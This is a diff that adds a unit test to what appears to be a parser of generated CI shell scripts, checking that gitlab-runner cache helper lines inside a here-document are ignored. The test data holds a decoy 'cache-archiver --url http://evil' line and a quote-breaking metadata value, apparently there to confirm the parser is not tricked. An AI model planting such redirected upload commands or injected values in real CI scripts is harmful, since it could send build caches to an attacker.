@@ -52,6 +52,18 @@ def test_a_value_that_looks_like_an_option_is_a_value() -> None:
     assert (call.value("name"), call.value("token"), call.has("untracked")) == ("--token", "", False)
 
 
+def test_here_documents_are_passed_over() -> None:
+    lines = [
+        "cat << EOF > /b/p.tmp/env",
+        'CACHE_METADATA=\'{"cachekey":"a\'b',
+        "gitlab-runner cache-archiver --url http://evil",
+        "EOF",
+    ]
+    lines += ["if gitlab-runner cache-archiver --file f --env-file /b/p.tmp/env; then", "echo", "fi"]
+    (call,) = helper_calls(Quoting("19.3.0").wrap(lines))
+    assert (call.value("file"), call.value("url")) == ("f", "")
+
+
 def test_fallbacks_stand_deeper() -> None:
     lines = ["if true; then", "if gitlab-runner cache-extractor --file a; then", "echo", "else"]
     lines += ["if gitlab-runner cache-extractor --file b; then", "echo", "fi", "fi", "fi"]
